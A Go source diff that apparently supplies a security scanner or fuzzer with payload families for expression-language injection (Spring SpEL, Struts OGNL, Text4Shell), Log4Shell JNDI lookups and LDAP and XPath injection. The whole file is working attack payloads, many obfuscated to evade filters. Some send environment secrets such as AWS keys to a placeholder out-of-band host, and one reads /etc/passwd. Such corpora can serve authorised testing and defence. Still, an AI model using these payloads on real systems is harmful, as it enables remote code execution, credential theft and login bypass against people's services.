@@ -1,0 +1,63 @@
+package east
+
+func expressions() []family {
+	return []family{
+		{name: "el/spel-runtime", place: strict, veils: "twice base64",
+			vals: one("T(java.lang.Runtime).getRuntime().exec('‹cmd›')", "#{T(java.lang.Runtime).getRuntime().exec('‹cmd›')}", "${T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec('‹cmd›').getInputStream(),T(org.springframework.web.context.request.RequestContextHolder).currentRequestAttributes().getResponse().getOutputStream())}", "new java.lang.ProcessBuilder({'sh','-c','‹cmd›'}).start()")},
+		{name: "el/spring-cloud-function", place: "header",
+			reqs: one("POST /functionRouter text\n> spring.cloud.function.routing-expression: §\n‹w5›"),
+			vals: one("T(java.lang.Runtime).getRuntime().exec(\"‹cmd›\")", "new javax.script.ScriptEngineManager().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"‹cmd›\")')")},
+		{name: "el/spring-gateway-route", place: "json",
+			reqs: one("POST /actuator/gateway/routes/‹w6› json\n{\"id\":\"‹w6›\",\"filters\":[{\"name\":\"AddResponseHeader\",\"args\":{\"name\":\"R\",\"value\":\"§\"}}],\"uri\":\"http://‹webhost›\"}"),
+			vals: one("#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{'‹cmd›'}).getInputStream()))}", "#{@systemProperties['user.home']}#{T(java.lang.System).getenv()}")},
+		{name: "el/ognl-struts-header", place: "header",
+			reqs: one("POST /upload.action\n> content-type: §", "GET /index.action\n> content-type: §"),
+			vals: one("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='‹cmd›').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}", "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-‹l4›',‹sum›)}.multipart/form-data")},
+		{name: "el/ognl-path-query", place: "path query",
+			vals: one("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"‹cmd›\").getInputStream(),\"utf-8\"))}", "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#ct=#request['struts.valueStack'].context)}", "${@java.lang.Runtime@getRuntime().exec(\"‹cmd›\")}", "redirect:${#context[\"xwork.MethodAccessor.denyMethodExecution\"]=false}")},
+		{name: "el/juel-jsf", place: strict, veils: "twice uescape",
+			vals: one("${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(''.getClass().forName('java.lang.Runtime')).exec('‹cmd›')}", "#{session.setAttribute('‹w3›',''.class.forName('javax.script.ScriptEngineManager').newInstance())}", "${pageContext.request.getSession().setAttribute('admin',true)}", "#{facesContext.externalContext.redirect('http://‹oob›')}")},
+		{name: "el/mvel-groovy-jexl", place: "json form query",
+			vals: one("Runtime.getRuntime().exec(\"‹cmd›\");", "\"‹cmd›\".execute().text", "''.class.forName('java.lang.Runtime').getRuntime().exec('‹cmd›')", "${groovy.lang.GroovyShell.newInstance().evaluate('\"‹cmd›\".execute()')}", "this.getClass().classLoader.loadClass('groovy.util.Eval').me('‹sum›')")},
+		{name: "el/text4shell", place: anywhere, veils: "twice base64",
+			vals: one("${script:javascript:java.lang.Runtime.getRuntime().exec('‹cmd›')}", "${url:UTF-8:http://‹oob›/‹w4›}", "${dns:address|‹oob›}", "‹v›${script:js:‹sum›}")},
+		{name: "jndi/plain", place: anywhere, veils: "lower base64 uescape",
+			vals: one("${jndi:ldap://‹oob›/‹w4›}", "${jndi:rmi://‹ip›:1099/‹w5›}", "${jndi:dns://‹oob›}", "‹v› ${jndi:ldaps://‹ip›:‹1024..9999›/Basic/Command/Base64/‹b64:‹cmd››}", "${jndi:iiop://‹oob›/x}")},
+		{name: "jndi/user-agent", place: "header",
+			reqs: one("GET /\n> user-agent: §", "GET /v1/status\n> x-api-version: §", "POST /login form\n> referer: §\nuser=‹l5›&pass=‹w8›", "GET /\n> x-forwarded-for: §"),
+			vals: one("${jndi:ldap://${hostName}.‹oob›/a}", "${jndi:ldap://127.0.0.1#‹oob›:1389/‹w3›}", "Mozilla/5.0 ${jndi:ldap://‹oob›/‹w6›}", "t('${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//‹oob›/‹w3›}')")},
+		{name: "jndi/nested-lookups", place: strict,
+			vals: one("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://‹oob›/‹w3›}", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://‹oob›/x}", "${j${k8s:k5:-ND}i:ldap://‹oob›/z}", "${${upper:j}${upper:n}${upper:d}${upper:ı}:ldap://‹oob›}", "${jnd${sys:SYS_NAME:-i}:ldap://‹ip›/‹w2›}", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:rmi://‹oob›/q}")},
+		{name: "jndi/leak-env", place: strict, veils: "lower",
+			vals: one("${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.‹oob›/a}", "${jndi:dns://${sys:java.version}.‹oob›}", "${jndi:ldap://‹oob›/${env:USER}/${ctx:loginId}}")},
+		{name: "jndi/datasource-json", place: "json",
+			reqs: one("POST /v1/datasources json\n{\"name\":\"‹word›\",\"jndiName\":\"§\",\"type\":\"javax.sql.DataSource\"}"),
+			vals: one("ldap://‹oob›/Exploit", "rmi://‹ip›:1099/‹w5›", "ldap://‹ip›:1389/TomcatBypass/Command/‹b64:‹cmd››")},
+	}
+}
+
+func directories() []family {
+	return []family{
+		{name: "ldap/wildcard-login", place: "form json",
+			vals: one("*)(uid=*))(|(uid=*", "*)(|(objectClass=*", "admin)(&)", "‹l5›*)(‹col›=*", "*)(&(objectClass=user)(cn=*", "admin)(!(&(1=0")},
+		{name: "ldap/filter-break", place: strict, veils: "twice",
+			vals: one("‹v›)(|(password=*))", "‹word›)(cn=*))‹nul›", "*))(|(mail=*", "‹v›)(!(objectClass=‹w4›)", "x*)(userPassword=‹w1›*", "(&(uid=‹l4›)(|(a=*)(b=*)))(uid=*")},
+		{name: "ldap/blind-attribute", place: "query form json",
+			vals: one("admin)(‹userPassword|sshPublicKey|description›=‹l1›*", "‹l4›*)(department=‹l2›*))(|(cn=*", "*)(objectClass=organizationalUnit))(&(ou=*")},
+		{name: "ldap/null-and-hex", place: "query form",
+			vals: one("*)(uid=*))‹nul›", "*\\29\\28|\\28uid=*", "\\2a)(|(\\75id=\\2a)", "admin)(&(1=1))‹nul›")},
+		{name: "ldap/matching-rule", place: "query json",
+			vals: one("*)(userAccountControl:1.2.840.113556.1.4.803:=2", "x)(memberOf:1.2.840.113556.1.4.1941:=CN=Domain Admins,CN=Users,DC=‹slug›,DC=com", "*)(&(samAccountType=805306368)(adminCount=1)")},
+		{name: "xpath/tautology", place: fields, veils: "twice",
+			vals: one("‹v›' or '1'='1", "' or 1=1 or ''='", "‹l5›' or ''='", "x'] | //user/*[contains(*,'", "' or count(/*)=1 or 'a'='b", "\" or position()=1 or \"a\"=\"b")},
+		{name: "xpath/blind", place: fields, veils: "twice",
+			vals: one("‹v›' and substring(//user[1]/‹col›,‹1..9›,1)='‹l1›' and '1'='1", "' and string-length(//user[position()=1]/child::node()[position()=2])=‹4..30› and 'a'='a", "' or substring(name(/*[1]),1,1)='‹l1›' or 'x'='", "' and count(/*/child::*)>‹1..9› and '1'='1")},
+		{name: "xpath/union-nodes", place: "query form json xml",
+			vals: one("'] | //* | //*['", "‹w4›']|//‹table›/‹col›|x['", "*[1]]|//user[role='admin'", "‹1..9›] | /* | /foo[bar='")},
+		{name: "xpath/doc-out-of-band", place: "query form xml",
+			vals: one("' and doc('http://‹oob›/?d='||encode-for-uri(/users/user[1]/‹col›)) or '1'='", "x' or unparsed-text('file:///etc/passwd')='", "' and doc-available(concat('http://‹oob›/',name(/*))) and '1'='1")},
+		{name: "xpath/login-xml", place: "xml",
+			reqs: one("POST /auth xml\n<login><user>§</user><password>‹w3›</password></login>", "POST /lookup xml\n<q><select>§</select></q>"),
+			vals: one("admin' or '1'='1", "' or name()='username' or 'x'='y", "//user[name/text()='' or '1'='1']/‹col›", "' or //‹col›[contains(.,'‹l1›')] or '")},
+	}
+}
